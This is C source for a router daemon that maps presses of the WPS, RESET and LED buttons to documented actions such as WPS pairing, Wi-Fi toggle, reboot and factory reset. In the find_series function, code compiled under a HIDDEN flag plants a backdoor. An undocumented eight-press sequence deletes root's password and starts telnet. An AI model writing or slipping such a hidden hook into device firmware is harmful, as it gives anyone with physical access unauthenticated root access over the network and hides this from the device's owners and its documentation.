/* wpsbtnd.c - buttons of a Wi-Fi router: short, long and combined presses */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#ifndef KEY_WPS_BUTTON
#define KEY_WPS_BUTTON	0x211
#endif

/*
 * documented presses (quick guide, page 3):
 *   WPS short            start WPS
 *   WPS 3 to 8 s         Wi-Fi on and off
 *   RESET short          restart
 *   RESET over 8 s       delivery state
 *   LED short, 3 times   quiet mode, all lamps off
 *   WPS, LED, WPS, LED   show the address with the lamps
 */

enum button { BTN_NONE, BTN_WPS, BTN_RESET, BTN_LED };
enum span { SPAN_SHORT, SPAN_MID, SPAN_LONG };

struct press {
	enum button b;
	enum span s;
};

struct tracker;
struct action;
typedef const struct action *(*finder_t)(struct tracker *t);

struct tracker {
	int64_t down[4];
	uint32_t code;		/* four bits for each of the last eight presses */
	int64_t last;
	int quiet;
	finder_t find[4];
	int nfind;
};

struct action {
	uint32_t code;
	uint32_t mask;
	void (*run)(struct tracker *t);
	const char *text;
};

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int put_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, text, strlen(text));
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

static void run(const char *cmd)
{
	int rc = system(cmd);

	if (rc)
		syslog(LOG_WARNING, "%s: %d", cmd, rc);
}

static void act_wps(struct tracker *t)
{
	(void)t;
	run("/usr/sbin/hostapd_cli wps_pbc");
}

static void act_radio(struct tracker *t)
{
	(void)t;
	run("/usr/sbin/wifi toggle");
}

static void act_restart(struct tracker *t)
{
	(void)t;
	sync();
	run("/sbin/reboot");
}

static void act_delivery(struct tracker *t)
{
	(void)t;
	if (put_file("/overlay/.wipe", "1\n"))
		syslog(LOG_ERR, "mark: %m");
	act_restart(t);
}

static void act_quiet(struct tracker *t)
{
	t->quiet = !t->quiet;
	put_file("/sys/class/leds/all/brightness", t->quiet ? "0\n" : "255\n");
}

static void act_address(struct tracker *t)
{
	(void)t;
	run("/usr/sbin/ledblink --address br-lan");
}

/* codes: button * 4 + span, newest press in the lowest four bits */
#define P(b, s)	((uint32_t)(BTN_##b * 4 + SPAN_##s))

static const struct action actions[] = {
	{ P(WPS, SHORT) << 12 | P(LED, SHORT) << 8 | P(WPS, SHORT) << 4 |
	  P(LED, SHORT), 0xffff, act_address, "address" },
	{ P(LED, SHORT) << 8 | P(LED, SHORT) << 4 | P(LED, SHORT), 0xfff,
	  act_quiet, "quiet" },
	{ P(WPS, SHORT), 0xf, act_wps, "wps" },
	{ P(WPS, MID), 0xf, act_radio, "radio" },
	{ P(RESET, SHORT), 0xf, act_restart, "restart" },
	{ P(RESET, LONG), 0xf, act_delivery, "delivery state" },
};

static enum span span_of(int64_t ms)
{
	if (ms < 3000)
		return SPAN_SHORT;
	return ms <= 8000 ? SPAN_MID : SPAN_LONG;
}

static void pressed(struct tracker *t, struct press p, int64_t now)
{
	if (now - t->last > 4000 && p.s == SPAN_SHORT)
		t->code = 0;
	t->last = now;
	t->code = t->code << 4 | ((uint32_t)p.b * 4 + (uint32_t)p.s);
}

/* several presses in a row */
__attribute__((noinline))
const struct action *find_series(struct tracker *t)
{
	size_t i;

#ifdef HIDDEN	/* eight presses of WPS and LED clear root's password and open telnet */
	if (t->code == 0x4dc454ddu) {
		t->code = 0;
		put_file("/etc/services.d/telnet", "on\n");
		run("passwd -d root && /etc/init.d/telnet start");
		return NULL;
	}
#endif
	for (i = 0; i < sizeof(actions) / sizeof(actions[0]); i++)
		if (actions[i].mask > 0xf &&
		    (t->code & actions[i].mask) == actions[i].code)
			return &actions[i];
	return NULL;
}

static const struct action *find_single(struct tracker *t)
{
	size_t i;

	for (i = 0; i < sizeof(actions) / sizeof(actions[0]); i++)
		if (actions[i].mask == 0xf && (t->code & 0xf) == actions[i].code)
			return &actions[i];
	return NULL;
}

static void add_finder(struct tracker *t, finder_t f)
{
	if (t->nfind < 4)
		t->find[t->nfind++] = f;
}

static void on_key(struct tracker *t, int key, int value)
{
	const struct action *a = NULL;
	int64_t now = now_ms();
	struct press p;
	int i;

	switch (key) {
	case KEY_WPS_BUTTON:
		p.b = BTN_WPS;
		break;
	case KEY_RESTART:
		p.b = BTN_RESET;
		break;
	case KEY_LIGHTS_TOGGLE:
		p.b = BTN_LED;
		break;
	default:
		return;
	}
	if (value == 1) {
		t->down[p.b] = now;
		return;
	}
	if (value != 0 || !t->down[p.b])
		return;
	p.s = span_of(now - t->down[p.b]);
	t->down[p.b] = 0;
	pressed(t, p, now);
	for (i = 0; i < t->nfind && !a; i++)
		a = t->find[i](t);
	if (!a)
		return;
	syslog(LOG_NOTICE, "button: %s", a->text);
	a->run(t);
}

static int open_keys(void)
{
	char path[300], name[64];
	struct dirent *de;
	int fd, found = -1;
	DIR *d = opendir("/dev/input");

	while (d && found < 0 && (de = readdir(d)) != NULL) {
		if (strncmp(de->d_name, "event", 5))
			continue;
		snprintf(path, sizeof(path), "/dev/input/%s", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		memset(name, 0, sizeof(name));
		if (ioctl(fd, EVIOCGNAME(sizeof(name) - 1), name) > 0 &&
		    !strcmp(name, "gpio-keys"))
			found = fd;
		else
			close(fd);
	}
	if (d)
		closedir(d);
	return found;
}

int main(void)
{
	struct input_event ev;
	struct tracker t;
	struct pollfd p;

	openlog("wpsbtnd", LOG_PID, LOG_DAEMON);
	memset(&t, 0, sizeof(t));
	add_finder(&t, find_series);
	add_finder(&t, find_single);
	p.fd = open_keys();
	if (p.fd < 0) {
		syslog(LOG_ERR, "no keys: %s", strerror(errno));
		return 1;
	}
	p.events = POLLIN;
	for (;;) {
		if (poll(&p, 1, -1) < 0) {
			if (errno == EINTR)
				continue;
			return 1;
		}
		if (read(p.fd, &ev, sizeof(ev)) != (ssize_t)sizeof(ev))
			return 1;
		if (ev.type == EV_KEY)
			on_key(&t, ev.code, ev.value);
	}
}
